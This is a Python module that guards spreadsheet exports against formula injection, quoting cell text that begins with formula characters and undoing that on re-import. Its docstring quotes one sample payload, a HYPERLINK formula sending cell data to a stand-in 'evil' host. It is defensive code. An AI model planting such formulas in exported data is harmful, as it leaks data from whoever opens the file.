"""Cell values that leave the system in a spreadsheet (CSV or XLSX) and must stay data.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
tab, CR and LF let a cell start with one of those after the spreadsheet trims it. A visitor's
comment like ``=HYPERLINK("http://evil/?"&A1)`` would otherwise run in the auditor's Excel. Per
OWASP's CSV-injection guidance such text gets a leading apostrophe, which spreadsheets read as
"this is text". Real numbers (int, float, Decimal) are never touched, so ``-5`` stays a number.
"""

from __future__ import annotations

#: What a cell's text may start with to be read as a formula (OWASP's list, plus line feed).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_safe(value):
    """The value as a spreadsheet must receive it: text that could be a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_unquoted(text: str) -> str:
    """The text as it was before spreadsheet_safe, for files that come back (catalogue import)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
